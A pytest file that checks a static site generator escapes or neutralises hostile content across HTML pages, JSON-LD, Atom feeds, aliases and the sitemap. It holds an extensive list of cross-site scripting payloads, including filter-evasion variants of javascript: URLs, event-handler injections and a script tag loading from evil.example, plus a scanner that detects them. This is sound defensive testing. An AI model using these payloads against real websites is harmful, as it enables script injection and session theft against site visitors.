"""No content file can put script into the site: every value is escaped where it lands (HTML text,
attributes, JSON-LD, Atom, sitemap), dangerous URLs are neutralised and raw HTML is cleaned."""
from __future__ import annotations

import json
import re
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from pathlib import Path

import pytest

from sitegen.errors import BuildFailed
from tests.sitekit import ATOM, build_site, page, write_site

EVIL = "\"'><script>alert(1)</script><img src=x onerror=alert(2)></title></script><!--&amp;{{ 7*7 }}"
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background", "srcset",
                  "cite", "longdesc", "lowsrc", "dynsrc", "manifest", "ping"}
EVIL_TAG = "script-alert-1-script-img-src-x-onerror-alert-2-title-script-and-amp-7-7"
BAD_SCHEMES = ("javascript:", "vbscript:", "data:", "file:")

BODY = f"""\
First paragraph with {EVIL} inline.

[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java&#x09;script:alert(1)) [d]( javascript:alert(1))
[e](vbscript:msgbox(1)) [f](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[g](&#106;avascript:alert(1)) [h](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1))
[i](java%0Ascript:alert(1)) [j](%20javascript:alert(1)) [k][ref] [l](file:///etc/passwd)
<javascript:alert(1)> <vbscript:msgbox(1)> [m](<javascript:alert(1)>)
![n](javascript:alert(1)) ![o](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+) ![p](JAVASCRIPT:x)

[ref]: javascript:alert(1)

<script>alert(3)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<img src=x onerror=alert(4)> <img src="javascript:alert(5)"> <svg onload=alert(6)><path d="M0"/></svg>
<a href="javascript:alert(7)">x</a> <a href="JaVaScRiPt:alert(8)">y</a> <a href="java&#x09;script:alert(9)">z</a>
<a href=" &#14; javascript:alert(10)">w</a> <a href="data:text/html,<script>alert(11)</script>">v</a>
<iframe src="javascript:alert(12)"></iframe> <iframe srcdoc="<script>alert(13)</script>"></iframe>
<object data="javascript:alert(14)"></object> <embed src="javascript:alert(15)">
<form action="javascript:alert(16)"><button formaction="javascript:alert(17)">go</button></form>
<math><mi xlink:href="javascript:alert(18)">m</mi></math> <base href="javascript:alert(19)//">
<meta http-equiv="refresh" content="0;url=javascript:alert(20)"> <link rel="import" href="//evil.example">
<div onclick="alert(21)" onmouseover=alert(22)>hover</div> <body onload=alert(23)>
<video poster="javascript:alert(24)" src="x.mp4"></video> <style>body{{background:red}}</style>
<noscript><p title="</noscript><img src=x onerror=alert(25)>"></noscript>
<!-- <script>alert(26)</script> -->
<p>Closing paragraph.</p>
"""

HOSTILE = f"""\
---
title: '{EVIL.replace("'", "''")}'
date: 2020-10-23 10:00
tags: ['{EVIL.replace("'", "''")}', '</script>', 'javascript:alert(1)']
author: '{EVIL.replace("'", "''")}'
summary: '{EVIL.replace("'", "''")}'
aliases: ['/old/<script>alert(1)</script>.html', '/x"onmouseover="alert(1)/']
image: 'https://img.example/a.jpg?"><script>alert(1)</script>'
note: '{EVIL.replace("'", "''")}'
nested: {{deep: ['{EVIL.replace("'", "''")}']}}
---
{BODY}"""

BODY_ONLY = "---\ntitle: Summary from body\ndate: 2020-10-22\n---\n" + BODY
EXTRA_TEMPLATE = """\
{% extends "base.html" %}
{% block main %}<h1>{{ article.title }}</h1>
<p class="note" title="{{ article.extra.note }}">{{ article.extra.note }}</p>
<p class="nested" data-x="{{ article.extra.nested.deep[0] }}">{{ article.extra.nested }}</p>
<script type="application/ld+json">{{ article.extra | jsonld }}</script>
{{ article.html | safe }}{% endblock %}
"""


class Scan(HTMLParser):
    """Everything that could run script: script elements, event handler attributes, dangerous URLs."""

    def __init__(self, text: str):
        super().__init__(convert_charrefs=True)
        self.scripts: list[tuple[dict, str]] = []
        self.handlers: list[tuple[str, str]] = []
        self.bad_urls: list[tuple[str, str, str]] = []
        self.forbidden: list[str] = []
        self._script: dict | None = None
        self._text = ""
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag == "script":
            self._script, self._text = a, ""
        theirs = (tag == "link" and a.get("rel") in ("stylesheet", "canonical", "alternate", "icon", "shortlink")
                  or tag == "form" and a.get("class") == "site-search")  # the theme's own: styles, search box
        if tag in ("object", "embed", "base", "form", "frame", "frameset", "applet", "link") and not theirs:
            self.forbidden.append(tag)
        if tag == "meta" and (a.get("http-equiv") or "").lower() == "refresh":
            target = (a.get("content") or "").partition("url=")[2]
            if _dangerous(target) or "//" in target:
                self.bad_urls.append((tag, "content", target))
        for name, value in attrs:
            if name.startswith("on"):
                self.handlers.append((tag, name))
            if name in URL_ATTRIBUTES and value is not None and _dangerous(value):
                self.bad_urls.append((tag, name, value))
            if name == "srcdoc" or name == "style" and "javascript" in (value or "").lower():
                self.forbidden.append(f"{tag}[{name}]")

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)
        if tag == "script":
            self.handle_endtag(tag)

    def handle_endtag(self, tag):
        if tag == "script" and self._script is not None:
            self.scripts.append((self._script, self._text))
            self._script = None

    def handle_data(self, data):
        if self._script is not None:
            self._text += data


THEME_SCRIPTS = {"/pagefind/pagefind-ui.js", "/js/search.js", "/js/share.js"}
"""The theme's own script files (Pagefind's UI and the search page's glue, the short link's copy button); every
other script must be JSON-LD."""


def _dangerous(url: str) -> bool:
    """As a browser reads a URL: leading/trailing C0 controls and spaces dropped, tabs and newlines removed
    anywhere, scheme case-insensitive."""
    cleaned = re.sub(r"[\t\n\r]", "", url.strip("\x00\x01\x02\x03\x04\x05\x06\x07\x08\t\n\x0b\x0c\r\x0e\x0f"
                                                 "\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a\x1b\x1c\x1d\x1e\x1f "))
    return cleaned.lower().startswith(BAD_SCHEMES)


def assert_no_script(text: str, where: str, scripts_allowed: int = 1) -> Scan:
    scan = Scan(text)
    assert scan.handlers == [], where
    assert scan.bad_urls == [], where
    assert scan.forbidden == [], where
    inline = [(attrs, body) for attrs, body in scan.scripts if attrs.get("src") not in THEME_SCRIPTS]
    assert len(inline) <= scripts_allowed, where
    for attrs, body in inline:
        assert attrs == {"type": "application/ld+json"} and attrs.get("src") is None, where
        json.loads(body)
        assert not re.search(r"</script|<!--", body, re.IGNORECASE), where
    return scan


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory) -> Path:
    root = write_site(tmp_path_factory.mktemp("hostile"), {"2020/evil.md": HOSTILE, "2020/body.md": BODY_ONLY},
                      config='title = "Wire"\nbase_url = "https://example.org/"\n')
    build_site(root)
    return root / "output"


@pytest.fixture(scope="module")
def extra_site(tmp_path_factory) -> Path:
    root = write_site(tmp_path_factory.mktemp("extra"), {"2020/evil.md": HOSTILE})
    (root / "templates").mkdir()
    (root / "templates/article.html").write_text(EXTRA_TEMPLATE, encoding="utf-8")
    build_site(root)
    return root / "output"


def test_no_page_carries_script_event_handlers_or_dangerous_urls(hostile_site):
    pages = sorted(hostile_site.rglob("*.html"))
    assert len(pages) > 10
    for path in pages:
        assert_no_script(path.read_text(encoding="utf-8"), str(path.relative_to(hostile_site)))


def test_hostile_values_arrive_as_text(hostile_site):
    doc = page(hostile_site, "2020/10/evil/index.html")
    assert doc.h1 == EVIL
    assert doc.meta["og:title"].startswith(EVIL) and doc.meta["description"] == EVIL
    assert doc.meta["og:image"] == "https://img.example/a.jpg?%22%3E%3Cscript%3Ealert(1)%3C/script%3E"  # a URL
    (data,) = doc.jsonld
    assert data["image"] == doc.meta["og:image"]
    assert data["headline"] == EVIL and data["description"] == EVIL and data["author"][0]["name"] == EVIL
    assert EVIL in data["keywords"] and "</script>" in data["keywords"]
    assert page(hostile_site, f"tags/{EVIL_TAG}/index.html").h1 == f"Tagged “{EVIL}”"
    tag_page = hostile_site / "tags/script/index.html"
    assert page(hostile_site, "tags/script/index.html").h1 == "Tagged “</script>”"
    assert_no_script(tag_page.read_text(encoding="utf-8"), "tag page")


def test_markdown_links_with_dangerous_schemes_are_neutralised(hostile_site):
    doc = page(hostile_site, "2020/10/body/index.html")
    hrefs = [link for tag, link in doc.links if tag in ("a", "img")]
    assert not [h for h in hrefs if _dangerous(h)]
    text = (hostile_site / "2020/10/body/index.html").read_text(encoding="utf-8")
    assert "Closing paragraph." in text and "alert(3)" not in text and "evil.example/x.js" not in text


def test_raw_html_off_escapes_everything(tmp_path):
    root = write_site(tmp_path, {"a.md": BODY_ONLY}, config="raw_html = false\n")
    build_site(root)
    text = (root / "output/2020/10/a/index.html").read_text(encoding="utf-8")
    assert_no_script(text, "raw_html = false")
    assert "&lt;script&gt;alert(3)&lt;/script&gt;" in text


def test_unknown_frontmatter_values_are_escaped_in_site_templates(extra_site):
    text = (extra_site / "2020/10/evil/index.html").read_text(encoding="utf-8")
    scan = assert_no_script(text, "custom template", scripts_allowed=1)
    (_, extra_json), = scan.scripts
    assert json.loads(extra_json)["note"] == EVIL


def test_feeds_and_sitemap_parse_and_carry_values_as_text(hostile_site):
    feed = ET.parse(hostile_site / "feed.xml").getroot()
    entries = {e.findtext(f"{ATOM}title"): e for e in feed.iter(f"{ATOM}entry")}
    entry = entries[EVIL]
    assert entry.find(f"{ATOM}author").findtext(f"{ATOM}name") == EVIL
    assert {c.get("term") for c in entry.iter(f"{ATOM}category")} >= {EVIL, "</script>"}
    assert entry.find(f"{ATOM}summary").get("type", "text") == "text"
    assert entry.findtext(f"{ATOM}summary") == EVIL
    html_summary = entries["Summary from body"].find(f"{ATOM}summary")
    assert html_summary.get("type") == "html" and "inline" in html_summary.text
    for each in feed.iter(f"{ATOM}summary"):
        if each.get("type") == "html":
            assert_no_script(each.text, "feed summary", scripts_allowed=0)
    tag_feeds = list((hostile_site / "tags").glob("*/feed.xml"))
    assert len(tag_feeds) == 3
    for path in tag_feeds:
        ET.parse(path)
    sitemap = ET.parse(hostile_site / "sitemap.xml").getroot()
    assert all(not _dangerous(loc.text) and loc.text.startswith("https://example.org/") for loc in sitemap.iter()
               if loc.tag.endswith("loc"))


def test_alias_pages_redirect_only_inside_the_site(hostile_site):
    aliases = [p for p in hostile_site.rglob("*") if p.is_file() and "http-equiv" in p.read_text(errors="ignore")
               and "/s/" not in p.as_posix()]
    assert len(aliases) == 2
    for path in aliases:
        scan = assert_no_script(path.read_text(encoding="utf-8"), str(path), scripts_allowed=0)
        assert scan.bad_urls == []


@pytest.mark.parametrize("image", ["javascript:alert(1)", " JaVaScRiPt:alert(1)", "vbscript:x", "data:text/html,x",
                                   "java\tscript:alert(1)"])
def test_image_with_a_script_url_is_refused(tmp_path, image):
    root = write_site(tmp_path, {"a.md": f"---\ntitle: T\ndate: 2020-01-01\nimage: \"{image}\"\n---\nx\n"})
    with pytest.raises(BuildFailed) as failed:
        build_site(root)
    assert [str(e) for e in failed.value.errors] == [
        "content/a.md:4: 'image' must be an http(s) URL or a path, not a javascript:, vbscript: or data: URL"]


def test_control_characters_do_not_break_feeds(tmp_path):
    root = write_site(tmp_path, {"a.md": '---\ntitle: "Bell\\a and \\x01 escape"\ndate: 2020-01-01\n'
                                         'tags: ["tab\\x0bbed"]\n---\nText with \x01 and \x0b inside.\n'})
    build_site(root)
    entry = ET.parse(root / "output/feed.xml").getroot().find(f"{ATOM}entry")
    assert entry.findtext(f"{ATOM}title") == "Bell and escape"
    ET.parse(root / "output/sitemap.xml")
    ET.parse(root / "output/tags/tabbed/feed.xml")
